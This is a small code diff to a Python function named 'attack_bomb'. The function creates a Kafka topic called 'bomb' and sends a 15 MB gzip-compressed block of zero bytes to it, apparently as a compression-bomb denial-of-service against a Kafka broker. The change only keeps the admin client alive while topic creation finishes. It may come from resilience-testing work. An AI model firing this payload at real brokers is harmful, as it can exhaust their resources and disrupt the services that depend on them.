@@ -130,8 +130,8 @@ def attack_bomb(args):
     from confluent_kafka.admin import AdminClient, NewTopic
     addr = parse_addr(args.bootstrap)
     topic = "bomb"
-    AdminClient({"bootstrap.servers": args.bootstrap}).create_topics(
-        [NewTopic(topic, 1, 1)])[topic].result(30)
+    admin = AdminClient({"bootstrap.servers": args.bootstrap})  # kept alive until answered
+    admin.create_topics([NewTopic(topic, 1, 1)])[topic].result(30)
     p = Producer({"bootstrap.servers": args.bootstrap, "compression.type": "gzip",
                   "message.max.bytes": 100_000_000, "linger.ms": 0})
     p.produce(topic, b"\0" * (15 * 1024 * 1024), timestamp=1000)
